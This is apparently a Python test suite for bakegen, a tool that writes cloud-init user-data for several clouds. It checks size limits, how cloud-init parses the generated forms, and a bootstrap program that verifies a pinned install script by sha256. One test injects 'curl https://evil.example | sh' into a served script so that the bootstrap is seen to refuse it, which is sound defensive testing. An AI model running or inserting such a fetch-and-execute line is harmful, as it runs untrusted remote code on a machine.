"""User-data per cloud (`--cloud`, `--script-url`): each cloud's limit measured on the bytes written, the forms
read by the real cloud-init, and the bootstrap program run for real against a local HTTPS server.

The VM tests (tests/test_vm_cloud_init.py) boot the Azure form and the bootstrap form in Debian 12 and 13.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from generator import validate as v
from generator.errors import BakegenError
from generator.model import Format
from generator.userdata import USER_DATA_FORMS, encode, pack
from tests.helpers import REPO, matrix, render_files, run_cli
from tests.support.https import StaticHttps

SCRIPT_URL = "https://downloads.example.com/bakegen/install.sh?sv=2025-01-05&sig=x%2By%3D"
CLOUD_INIT_PYTHON = "/usr/bin/python3"  # Debian's cloud-init is installed for the system Python

# Run by Debian's cloud-init: each user-data file as cloud-init's UserDataProcessor turns it into parts (the code
# every datasource's user-data goes through). Prints {path: [[content type, sha256 of the part], ...]}.
READ_AS_CLOUD_INIT = """
import hashlib, json, sys, tempfile
from cloudinit.helpers import Paths
from cloudinit.user_data import UserDataProcessor
processor = UserDataProcessor(Paths({"cloud_dir": tempfile.mkdtemp()}))
found = {}
for path in sys.argv[1:]:
    message = processor.process(open(path, "rb").read())
    found[path] = [[part.get_content_type(), hashlib.sha256(part.get_payload(decode=True)).hexdigest()]
                   for part in message.walk() if not part.is_multipart()]
print(json.dumps(found))
"""


def read_as_cloud_init(paths: list[Path]) -> dict[Path, list[tuple[str, str]]]:
    result = subprocess.run(
        [CLOUD_INIT_PYTHON, "-c", READ_AS_CLOUD_INIT, *map(str, paths)],
        capture_output=True,
        text=True,
        check=True,
        timeout=300,
    )
    return {Path(p): [tuple(part) for part in parts] for p, parts in json.loads(result.stdout).items()}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """`bakegen all --format cloud-init --cloud CLOUD` for each cloud whose limit the full user-data fits."""
    folders = {}
    for cloud in ("azure", "gcp"):
        folder = tmp_path_factory.mktemp(cloud)
        result = run_cli("all", "--format", "cloud-init", "--cloud", cloud, "--out", str(folder))
        assert result.returncode == 0, result.stderr
        folders[cloud] = folder
    return folders


@pytest.mark.parametrize("cloud", ["azure", "gcp"])
def test_every_distribution_fits_the_clouds_limit(written: dict[str, Path], cloud: str) -> None:
    form = USER_DATA_FORMS[cloud]
    assert form.limit is not None
    files = sorted(written[cloud].rglob("*"))
    files = [p for p in files if p.is_file()]
    assert sorted(str(p.relative_to(written[cloud])) for p in files) == sorted(
        f"{d}/{a}/{form.file_name}" for d, a in matrix()
    )
    sizes = {str(p.relative_to(written[cloud])): p.stat().st_size for p in files}
    assert all(size <= form.limit for size in sizes.values()), sizes


def test_cloud_init_reads_every_form_as_the_full_user_data(written: dict[str, Path], tmp_path: Path) -> None:
    """Debian's cloud-init unpacks Azure's MIME form (a base64 gzip part) and the gzip form AWS takes into exactly
    the generic user-data, byte for byte; Google Cloud's is that file itself."""
    generic = {(d, a): REPO / "out" / d / a / "user-data.yaml" for d, a in matrix()}
    gzipped = {}
    for (d, a), path in generic.items():
        gzipped[(d, a)] = tmp_path / f"{d}-{a}.yaml.gz"
        gzipped[(d, a)].write_bytes(pack(path.read_text()))
    mime = {(d, a): written["azure"] / d / a / "user-data.mime" for d, a in matrix()}
    assert all(
        (written["gcp"] / d / a / "user-data.yaml").read_bytes() == p.read_bytes() for (d, a), p in generic.items()
    )
    parts = read_as_cloud_init([*mime.values(), *gzipped.values()])
    for key, path in generic.items():
        want = [("text/cloud-config", sha256(path.read_bytes()))]
        assert parts[mime[key]] == want, (mime[key], parts[mime[key]])
        assert parts[gzipped[key]] == want, (gzipped[key], parts[gzipped[key]])
    assert mime[("debian12", "x86_64")].read_text().isascii(), "az vm create --custom-data reads the file as text"


def test_bakegen_validate_reads_the_packed_forms(written: dict[str, Path]) -> None:
    folder = written["azure"] / "debian12"
    problems, counts = v.validate([folder])
    assert problems == [] and counts["cloud-config"] == 2, (problems, counts)
    broken = written["azure"] / "broken.mime"
    text = (folder / "x86_64" / "user-data.mime").read_text()
    broken.write_text(text.replace("Content-Type: application/x-gzip", "Content-Type: application/x-other"))
    with pytest.raises(BakegenError, match="not user-data bakegen can unpack"):
        v.validate([broken])
    broken.unlink()


@pytest.mark.parametrize(("distro", "arch"), matrix())
def test_aws_user_data_fits_or_is_refused_with_the_way_out(distro: str, arch: str) -> None:
    """EC2 takes 16,384 bytes. The full user-data (install script and GPU check) is gzip-compressed; where even
    that is over, bakegen refuses and names --script-url and the Packer route (README: User-data per cloud)."""
    form = USER_DATA_FORMS["aws"]
    assert form.limit == 16384
    try:
        (user_data,) = render_files(distro, Format.CLOUD_INIT, arch=arch, user_data_cloud="aws")
    except BakegenError as exc:
        message = str(exc)
        size = int(re.search(r"is ([\d,]+) bytes gzip-compressed", message).group(1).replace(",", ""))  # type: ignore[union-attr]
        generic = (REPO / "out" / distro / arch / "user-data.yaml").read_text()
        assert size == len(encode(form, generic)) > form.limit, message
        assert message.endswith("--script-url URL, or bake an image with --format packer"), message
        return
    assert isinstance(user_data.content, bytes) and len(user_data.content) <= form.limit


def test_refusal_is_one_line_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run_cli("ubuntu22.04", "--cloud", "aws", "--out", str(out))
    if result.returncode == 0:  # it fits: nothing to refuse
        assert (out / "ubuntu22.04" / "x86_64" / "user-data.yaml.gz").stat().st_size <= 16384
        return
    assert result.returncode == 1, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("bakegen: error: ubuntu22.04/x86_64/user-data.yaml.gz is "), lines
    assert "over AWS's 16,384-byte user-data limit" in lines[0] and "--script-url" in lines[0], lines
    assert result.stdout == ""
    assert not out.exists() or not any(out.rglob("*")), sorted(out.rglob("*"))


# ---------------------------------------------------------------------------------------------------------
# the bootstrap form


@pytest.fixture(scope="module")
def bootstrap_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("bootstrap")
    result = run_cli(
        "all", "--format", "cloud-init", "--cloud", "aws", "--script-url", SCRIPT_URL, "--out", str(folder)
    )
    assert result.returncode == 0, result.stderr
    return folder


def bootstrap_program(user_data: str) -> str:
    (entry,) = yaml.safe_load(user_data)["write_files"]
    assert entry["path"] == "/usr/local/sbin/bakegen-bootstrap" and entry["permissions"] == "0755", entry
    program: str = entry["content"]
    return program


def test_bootstrap_fits_aws_and_pins_the_published_script(bootstrap_out: Path) -> None:
    for distro, arch in matrix():
        folder = bootstrap_out / distro / arch
        user_data = (folder / "user-data.yaml").read_bytes()
        assert len(user_data) <= 16384, (distro, arch, len(user_data))
        # The script to publish is the shell format's script itself, byte for byte (same options)...
        script = (folder / "install.sh").read_bytes()
        assert script == (REPO / "out" / distro / arch / "install.sh").read_bytes(), (distro, arch)
        assert (folder / "install.sh").stat().st_mode & 0o777 == 0o755
        # ... and the bootstrap refuses anything but that script, from that URL.
        program = bootstrap_program(user_data.decode())
        assert f"want={sha256(script)}\n" in program, (distro, arch)
        assert f"url='{SCRIPT_URL}'\n" in program, program
    data = yaml.safe_load((bootstrap_out / "debian12" / "x86_64" / "user-data.yaml").read_text())
    runcmd = data["runcmd"][0][2]
    assert runcmd.startswith("/usr/local/sbin/bakegen-bootstrap || exit $?; "), runcmd
    assert data["power_state"]["condition"] == "test -f /run/bakegen/reboot-required"


def test_bootstrap_output_passes_every_validator(bootstrap_out: Path) -> None:
    problems, counts = v.validate([bootstrap_out / "debian13", bootstrap_out / "rhel9"])
    assert problems == [], problems
    assert counts == {"cloud-config": 4, "shell": 4, "hcl": 0}, counts


@pytest.fixture(scope="module")
def https_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path, Path]]:
    """A local HTTPS server (throwaway CA): (base URL, folder it serves, CA file)."""
    with StaticHttps(tmp_path_factory.mktemp("https")) as server:
        yield server.base_url, server.www, server.ca_pem


def run_bootstrap(
    tmp_path: Path, url: str, ca: Path, fast_sleep: bool = False
) -> tuple[subprocess.CompletedProcess[str], Path, str]:
    """The generated bootstrap program, run for real (real curl, sha256sum, install) with one change: it installs
    into tmp_path instead of /usr/local/sbin (this is not a throwaway machine). Returns the run, the target and the
    script it pins."""
    (user_data, script) = render_files("debian12", Format.CLOUD_INIT, user_data_cloud="aws", script_url=url)
    assert str(script.path) == "install.sh" and isinstance(script.content, str)
    program = bootstrap_program(str(user_data.content))
    target = tmp_path / "bakegen-install"
    program = program.replace("target=/usr/local/sbin/bakegen-install\n", f"target={target}\n")
    assert f"target={target}\n" in program
    (tmp_path / "bootstrap").write_text(program)
    env = {**os.environ, "CURL_CA_BUNDLE": str(ca)}
    if fast_sleep:  # five attempts with back-off are minutes: `sleep` answers at once (a labelled stand-in)
        bin_dir = tmp_path / "bin"
        bin_dir.mkdir()
        (bin_dir / "sleep").write_text('#!/bin/sh\necho "sleep $*" >>"$0.calls"\n')
        (bin_dir / "sleep").chmod(0o755)
        env["PATH"] = f"{bin_dir}:{env['PATH']}"
    result = subprocess.run(["sh", str(tmp_path / "bootstrap")], env=env, capture_output=True, text=True, timeout=300)
    return result, target, script.content


def test_bootstrap_installs_the_script_it_pins(https_server: tuple[str, Path, Path], tmp_path: Path) -> None:
    base, www, ca = https_server
    url = f"{base}/good/install.sh"
    (_, script) = render_files("debian12", Format.CLOUD_INIT, user_data_cloud="aws", script_url=url)
    (www / "good").mkdir()
    (www / "good" / "install.sh").write_text(str(script.content))
    result, target, pinned = run_bootstrap(tmp_path, url, ca)
    assert result.returncode == 0, result.stderr
    assert target.read_text() == pinned and target.stat().st_mode & 0o777 == 0o755
    assert f"bakegen-bootstrap: downloaded {url}, sha256 {sha256(pinned.encode())} verified" in result.stderr


def test_bootstrap_refuses_a_changed_script(https_server: tuple[str, Path, Path], tmp_path: Path) -> None:
    base, www, ca = https_server
    url = f"{base}/changed/install.sh"
    (_, script) = render_files("debian12", Format.CLOUD_INIT, user_data_cloud="aws", script_url=url)
    (www / "changed").mkdir()
    changed = str(script.content).replace("set -euo pipefail\n", "set -euo pipefail\ncurl https://evil.example | sh\n")
    (www / "changed" / "install.sh").write_text(changed)
    result, target, _ = run_bootstrap(tmp_path, url, ca)
    assert result.returncode == 4, result.stderr
    assert f"{url} has sha256 {sha256(changed.encode())}, but this user-data was generated for " in result.stderr
    assert "not running it" in result.stderr and not target.exists()
    assert not list(tmp_path.glob("tmp*")), "the download is not left behind"


@pytest.mark.parametrize("path", ["/missing/install.sh", "/untrusted"])
def test_bootstrap_retries_then_fails_clearly(https_server: tuple[str, Path, Path], tmp_path: Path, path: str) -> None:
    """A 404 (and, for /untrusted, a server whose certificate the machine does not trust) is retried, then
    named; nothing is installed."""
    base, _, ca = https_server
    url = f"{base}{path}"
    result, target, _ = run_bootstrap(
        tmp_path, url, ca if path != "/untrusted" else REPO / "README.md", fast_sleep=True
    )
    assert result.returncode == 5, result.stderr
    assert f"could not download {url} (5 attempts): nothing was run" in result.stderr
    assert (tmp_path / "bin" / "sleep.calls").read_text().split("\n")[:4] == [f"sleep {n}" for n in (10, 20, 30, 40)]
    assert not target.exists()


def test_readme_sizes_are_the_measured_ones() -> None:
    """The README's table is what bench/user_data_sizes.py measures now (regenerate it when a template grows)."""
    result = subprocess.run(
        [sys.executable, str(REPO / "bench" / "user_data_sizes.py")], capture_output=True, text=True, check=True
    )
    assert result.stdout.count("\n") == len({d for d, _ in matrix()}) + 2
    assert result.stdout in (REPO / "README.md").read_text(), "README: paste `python3 bench/user_data_sizes.py`"


# ---------------------------------------------------------------------------------------------------------
# the command line


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["debian12", "--script-url", "http://example.com/install.sh"], "only https:// URLs are allowed"),
        (["debian12", "--script-url", "https://example.com/scripts/"], "names a folder"),
        (["debian12", "--script-url", "https://example.com/i.sh#frag"], "only scheme, host, port, a plain path"),
        (["debian12", "--script-url", "https://example.com/i.sh?a='b'"], "only scheme, host, port, a plain path"),
        (["debian12", "--format", "shell", "--script-url", "https://example.com/i.sh"], "is for cloud-init"),
        (["debian12", "--cloud", "aws,gcp"], "cloud-init user-data is written for one cloud at a time"),
        (["debian12", "--cloud", "oracle"], "'oracle' is not one of generic, aws, azure, gcp"),
        (["debian12", "--format", "packer", "--cloud", "generic"], "--cloud generic is for cloud-init user-data"),
        (["debian12", "--stdout", "--script-url", "https://example.com/i.sh"], "--stdout prints one file"),
    ],
)
def test_bad_cloud_options_are_one_line(args: list[str], message: str, tmp_path: Path) -> None:
    result = run_cli(*args, "--out", str(tmp_path / "out"))
    assert result.returncode in (1, 2) and message in result.stderr, result.stderr
    assert len(result.stderr.splitlines()) == 1 and not (tmp_path / "out").exists(), result.stderr


def test_stdout_prints_the_azure_form(tmp_path: Path) -> None:
    result = run_cli("debian12", "--cloud", "azure", "--stdout")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Content-Type: multipart/mixed; boundary=") and "MIME-Version: 1.0" in result.stdout
    path = tmp_path / "user-data.mime"
    path.write_text(result.stdout)
    assert read_as_cloud_init([path])[path] == [
        ("text/cloud-config", sha256((REPO / "out" / "debian12" / "x86_64" / "user-data.yaml").read_bytes()))
    ]


def test_packer_folder_ignores_the_user_data_cloud(tmp_path: Path) -> None:
    """--cloud names Packer's sources for the Packer format: `--format all --cloud gcp` writes GCP's user-data form
    and a Packer folder for GCP only."""
    result = run_cli("debian12", "--format", "all", "--cloud", "gcp", "--out", str(tmp_path))
    assert result.returncode == 0, result.stderr
    folder = tmp_path / "debian12" / "x86_64"
    assert (folder / "user-data.yaml").read_bytes() == (
        REPO / "out" / "debian12" / "x86_64" / "user-data.yaml"
    ).read_bytes()
    sources = (folder / "packer" / "sources.pkr.hcl").read_text()
    assert 'source "googlecompute"' in sources and 'source "amazon-ebs"' not in sources
